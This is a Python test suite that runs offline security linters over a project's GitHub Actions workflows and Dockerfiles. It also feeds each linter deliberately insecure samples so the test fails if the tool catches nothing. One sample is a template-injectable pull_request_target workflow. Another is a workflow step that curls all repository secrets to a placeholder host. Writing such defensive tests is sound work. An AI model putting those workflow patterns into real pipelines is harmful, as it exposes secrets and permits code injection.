"""Security checks of the delivery artefacts, by the tools of the field, offline:

* workflows against GitHub's workflow JSON schema (``check-jsonschema``, vendored schema);
* workflows linted by ``zizmor --offline``: zero high findings (zero findings at all today);
* Dockerfiles linted by ``hadolint``;
* ``checkov`` on the Dockerfiles and the workflows: zero failed checks, and every skip carries
  its justification in place (``# checkov:skip=CKV_...:<why>``).

Each tool is also shown a deliberately bad file and must object, so a tool that silently checks
nothing cannot pass. The rendered Kubernetes manifests are checked by checkov in
``tests/infra/test_aks_manifests.py``.

checkov cannot live in the project venv: it pins ``packaging<24`` while pulumi needs ``>=26``.
It is looked up as ``$CHECKOV``, ``checkov`` on the PATH or ``.local/checkov/bin/checkov`` (the
same places as the AKS manifest tests); when none exists it is installed into ``.local/checkov``
from PyPI (``python3 -m venv .local/checkov && .local/checkov/bin/pip install 'checkov>=3.2,<4'``).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
DOCKERFILES = [ROOT / "scoring" / "Dockerfile", ROOT / "scoring" / "functions.Dockerfile"]
CHECKOV_SPEC = "checkov>=3.2,<4"


def tool(name: str) -> str:
    """A console script of the project venv (the interpreter running the tests), else PATH."""
    beside = Path(sys.executable).parent / name
    found = str(beside) if beside.exists() else shutil.which(name)
    if not found:
        pytest.fail(f"{name} is not installed: pip install -e '.[dev]'", pytrace=False)
    return found


def run(*cmd: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, check=False)


BAD_WORKFLOW = """\
name: bad
on: pull_request_target
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: echo "${{ github.event.pull_request.title }}"
"""


def test_there_are_the_three_workflows():
    assert [p.name for p in WORKFLOWS] == ["deploy.yml", "drift.yml", "preview.yml"]


# --- JSON schema -------------------------------------------------------------------------------
@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_matches_the_github_workflow_schema(workflow: Path):
    done = run(
        tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(workflow)
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_schema_check_refuses_a_malformed_workflow(tmp_path: Path):
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps: not-a-list\n")
    done = run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(bad))
    assert done.returncode == 1, done.stdout + done.stderr


# --- zizmor ------------------------------------------------------------------------------------
def zizmor(path: Path) -> list[dict[str, Any]]:
    done = run(tool("zizmor"), "--offline", "--format", "json", "--no-progress", str(path))
    # exit codes: 0 clean, 1 error, >= 10 findings (by severity); JSON on stdout either way
    assert done.returncode != 1 and done.stdout.strip(), done.stderr[-2000:]
    return json.loads(done.stdout)


def _severity(finding: dict[str, Any]) -> str:
    return str(finding["determinations"]["severity"]).lower()


def test_zizmor_finds_nothing_high_in_our_workflows():
    findings = zizmor(ROOT / ".github" / "workflows")
    high = [f["ident"] for f in findings if _severity(f) == "high"]
    assert high == []
    # stronger than the bar: no finding at any severity today
    assert [(f["ident"], _severity(f)) for f in findings] == []


def test_zizmor_flags_a_dangerous_workflow(tmp_path: Path):
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(BAD_WORKFLOW)
    findings = zizmor(bad)
    idents = {f["ident"] for f in findings if _severity(f) == "high"}
    assert {"template-injection", "dangerous-triggers"} <= idents, idents


# --- hadolint ------------------------------------------------------------------------------------
@pytest.mark.parametrize("dockerfile", DOCKERFILES, ids=lambda p: p.name)
def test_hadolint_passes(dockerfile: Path):
    assert dockerfile.exists(), f"{dockerfile} is missing"
    done = run(tool("hadolint"), "--no-color", str(dockerfile))
    assert done.returncode == 0, done.stdout + done.stderr


def test_hadolint_flags_a_bad_dockerfile(tmp_path: Path):
    bad = tmp_path / "Dockerfile"
    bad.write_text("FROM python:latest\nRUN apt-get install curl\nADD . /app\n")
    done = run(tool("hadolint"), "--no-color", str(bad))
    assert done.returncode != 0
    for rule in ("DL3007", "DL3008", "DL3020"):
        assert rule in done.stdout, done.stdout


# --- checkov -------------------------------------------------------------------------------------
def _find_checkov() -> str | None:
    for candidate in (
        os.environ.get("CHECKOV"),
        shutil.which("checkov"),
        str(ROOT / ".local" / "checkov" / "bin" / "checkov"),
    ):
        if candidate and Path(candidate).exists():
            return candidate
    return None


@pytest.fixture(scope="session")
def checkov() -> str:
    found = _find_checkov()
    if found:
        return found
    venv = ROOT / ".local" / "checkov"
    steps = [
        [sys.executable, "-m", "venv", "--clear", str(venv)],
        [str(venv / "bin" / "python"), "-m", "pip", "install", "--quiet", CHECKOV_SPEC],
    ]
    for cmd in steps:
        done = run(*cmd, timeout=900)
        if done.returncode != 0:
            pytest.fail(
                f"checkov is not installed and installing it failed ({' '.join(cmd)}): "
                f"{done.stderr[-1500:]}",
                pytrace=False,
            )
    return str(venv / "bin" / "checkov")


def run_checkov(checkov: str, framework: str, *targets: str) -> dict[str, Any]:
    done = run(
        checkov,
        "--framework",
        framework,
        *targets,
        "--compact",  # not --quiet: the report must list skipped checks too
        "--skip-download",  # offline: no guideline download from the vendor's platform
        "-o",
        "json",
    )
    assert done.stdout.strip(), done.stderr[-2000:]
    report = json.loads(done.stdout)
    reports = report if isinstance(report, list) else [report]
    found = [r for r in reports if r.get("check_type") == framework]
    assert len(found) == 1, reports
    return found[0]


def _failed(report: dict[str, Any]) -> list[str]:
    return [
        f"{c['check_id']} {c['file_path']}:{c['file_line_range']} {c['check_name']}"
        for c in report["results"]["failed_checks"]
    ]


def _skips_are_justified(report: dict[str, Any]) -> None:
    assert "skipped_checks" in report["results"], report["results"].keys()
    for c in report["results"]["skipped_checks"]:
        reason = (c.get("check_result") or {}).get("suppress_comment") or ""
        assert reason.strip() and "No comment provided" not in reason, c["check_id"]


def test_checkov_dockerfiles(checkov: str):
    args = [a for p in DOCKERFILES for a in ("-f", str(p))]
    report = run_checkov(checkov, "dockerfile", *args)
    assert report["summary"]["resource_count"] == len(DOCKERFILES)
    assert report["summary"]["passed"] > 0
    assert _failed(report) == [] and report["summary"]["failed"] == 0
    _skips_are_justified(report)


def test_checkov_workflows(checkov: str):
    report = run_checkov(checkov, "github_actions", "-d", str(ROOT / ".github" / "workflows"))
    assert report["summary"]["passed"] > 0
    assert _failed(report) == [] and report["summary"]["failed"] == 0
    _skips_are_justified(report)


def test_checkov_flags_bad_files(checkov: str, tmp_path: Path):
    (tmp_path / "Dockerfile").write_text("FROM python:3.11\nUSER root\nCOPY . /app\n")
    report = run_checkov(checkov, "dockerfile", "-f", str(tmp_path / "Dockerfile"))
    assert {"CKV_DOCKER_2", "CKV_DOCKER_8"} <= {
        c["check_id"] for c in report["results"]["failed_checks"]
    }
    wf = tmp_path / ".github" / "workflows" / "bad.yml"
    wf.parent.mkdir(parents=True)
    wf.write_text(
        "on: workflow_dispatch\n"
        "jobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n"
        '      - run: curl -d "$T" https://example.invalid\n'
        "        env:\n          T: ${{ toJSON(secrets) }}\n"
    )
    report = run_checkov(checkov, "github_actions", "-d", str(tmp_path / ".github" / "workflows"))
    assert _failed(report), "checkov accepted a workflow that posts every secret"


def test_inline_skips_in_our_files_give_a_reason():
    pattern = re.compile(r"checkov:skip=([A-Z0-9_]+)(:?)(.*)")
    for path in [*WORKFLOWS, *DOCKERFILES]:
        for line in path.read_text().splitlines():
            m = pattern.search(line)
            if m:
                assert m.group(2) == ":" and m.group(3).strip(), f"{path.name}: {line.strip()}"
